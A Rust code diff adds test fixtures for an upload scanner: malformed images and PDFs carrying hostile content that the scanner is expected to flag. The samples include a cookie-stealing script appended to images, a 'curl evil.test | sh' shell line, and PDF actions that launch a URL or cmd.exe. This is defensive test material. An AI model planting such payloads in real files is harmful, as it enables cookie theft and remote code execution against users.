@@ -120,17 +120,33 @@ pub fn jpeg(width: u16, height: u16, len: usize) -> Vec<u8> {
     b
 }
 
-/// A PNG: the signature and an IHDR chunk declaring the dimensions, padded with an IDAT chunk.
+/// A PNG: the signature and an IHDR chunk declaring the dimensions, padded with an IDAT chunk,
+/// ending with IEND.
 pub fn png(width: u32, height: u32, len: usize) -> Vec<u8> {
     let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
     b.extend_from_slice(&width.to_be_bytes());
     b.extend_from_slice(&height.to_be_bytes());
     b.extend_from_slice(&[8, 6, 0, 0, 0, 0, 0, 0, 0]);
-    let rest = len.saturating_sub(b.len() + 12);
+    let rest = len.saturating_sub(b.len() + 24);
     b.extend_from_slice(&(rest as u32).to_be_bytes());
     b.extend_from_slice(b"IDAT");
     b.extend(std::iter::repeat_n(0x78, rest));
     b.extend_from_slice(&[0, 0, 0, 0]);
+    b.extend_from_slice(b"\0\0\0\0IEND\xAE\x42\x60\x82");
+    b
+}
+
+/// A lossless WebP (`VP8L`) declaring the dimensions, padded to `len`.
+pub fn webp(width: u32, height: u32, len: usize) -> Vec<u8> {
+    let bits = (width - 1) | ((height - 1) << 14);
+    let mut data = vec![0x2F];
+    data.extend_from_slice(&bits.to_le_bytes());
+    data.resize(len.max(40) - 20, 0);
+    let mut b = b"RIFF".to_vec();
+    b.extend_from_slice(&((data.len() + 12) as u32).to_le_bytes());
+    b.extend_from_slice(b"WEBPVP8L");
+    b.extend_from_slice(&(data.len() as u32).to_le_bytes());
+    b.extend(data);
     b
 }
 
@@ -159,9 +175,16 @@ pub fn heic(width: u32, height: u32, len: usize) -> Vec<u8> {
 
 /// A PDF with a classic cross-reference table; `trailer_extra` goes into the trailer.
 pub fn pdf(trailer_extra: &str, len: usize) -> Vec<u8> {
+    pdf_with("", trailer_extra, len)
+}
+
+/// [`pdf`] with `catalog_extra` in the document's catalog.
+pub fn pdf_with(catalog_extra: &str, trailer_extra: &str, len: usize) -> Vec<u8> {
     let mut b = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
     let obj1 = b.len();
-    b.extend_from_slice(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
+    b.extend_from_slice(
+        format!("1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>\nendobj\n").as_bytes(),
+    );
     let obj2 = b.len();
     b.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
     if len > b.len() + 250 {
@@ -374,6 +397,26 @@ pub fn corpus() -> Vec<Hostile> {
             expect: Expect::Problems(&["pdf_unreadable"]),
         },
         Hostile {
+            // A script run when the document is opened (as a reviewer opens it).
+            name: "pdf_javascript_open_action",
+            bytes: pdf_with(
+                "/OpenAction << /S /JavaScript /JS (app.launchURL\\(\"https://x.test\"\\)) >> ",
+                "",
+                4096,
+            ),
+            claimed: Some("application/pdf".into()),
+            slot: "front",
+            expect: Expect::Problems(&["pdf_active_content"]),
+        },
+        Hostile {
+            // The names spelled with escapes (`/L#61unch`): the scan decodes names.
+            name: "pdf_launch_action_escaped_names",
+            bytes: pdf_with("/Op#65nAction << /S /L#61unch /F (cmd.exe) >> ", "", 4096),
+            claimed: Some("application/pdf".into()),
+            slot: "front",
+            expect: Expect::Problems(&["pdf_active_content"]),
+        },
+        Hostile {
             name: "pdf_as_selfie",
             bytes: pdf("", 4096),
             claimed: Some("application/pdf".into()),
@@ -393,6 +436,68 @@ pub fn corpus() -> Vec<Hostile> {
             claimed: Some(odd_unicode_claim()),
             slot: "front",
             expect: Expect::Problems(&["claimed_type_mismatch"]),
+        },
+    ]
+}
+
+/// Images with something after their end, or no end at all: the core's whole-file check (the
+/// widget's, on the user's original photo, which it re-encodes) does not refuse them; the relay,
+/// walking every streamed byte, refuses each with the problem given here.
+pub fn past_the_end() -> Vec<Hostile> {
+    let html = b"<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>";
+    let then = |mut image: Vec<u8>, rest: &[u8]| {
+        image.extend_from_slice(rest);
+        image
+    };
+    let cut = |mut image: Vec<u8>, by: usize| {
+        image.truncate(image.len() - by);
+        image
+    };
+    vec![
+        Hostile {
+            name: "jpeg_then_html",
+            bytes: then(jpeg(1600, 1000, 8000), html),
+            claimed: Some("image/jpeg".into()),
+            slot: "front",
+            expect: Expect::Problems(&["trailing_data"]),
+        },
+        Hostile {
+            // Past the head the relay judges a photo by (256 KiB) and past the 64 KiB tail
+            // window: only a walk of every byte finds the image's end.
+            name: "jpeg_then_executable_2MB",
+            bytes: then(jpeg(1600, 1000, 1024 * 1024), &elf(1024 * 1024)),
+            claimed: Some("image/jpeg".into()),
+            slot: "front",
+            expect: Expect::Problems(&["trailing_data"]),
+        },
+        Hostile {
+            name: "png_then_script",
+            bytes: then(png(1600, 1000, 8000), b"#!/bin/sh\ncurl evil.test | sh\n"),
+            claimed: Some("image/png".into()),
+            slot: "front",
+            expect: Expect::Problems(&["trailing_data"]),
+        },
+        Hostile {
+            name: "webp_then_html",
+            bytes: then(webp(1600, 1000, 8000), html),
+            claimed: Some("image/webp".into()),
+            slot: "front",
+            expect: Expect::Problems(&["trailing_data"]),
+        },
+        Hostile {
+            // HEIF has no end marker: the appended bytes read as a box that overruns the file.
+            name: "heic_then_html",
+            bytes: then(heic(4032, 3024, 16 * 1024), html),
+            claimed: Some("image/heic".into()),
+            slot: "front",
+            expect: Expect::Problems(&["no_end_marker"]),
+        },
+        Hostile {
+            name: "jpeg_without_eoi",
+            bytes: cut(jpeg(1600, 1000, 8000), 2),
+            claimed: Some("image/jpeg".into()),
+            slot: "front",
+            expect: Expect::Problems(&["no_end_marker"]),
         },
     ]
 }
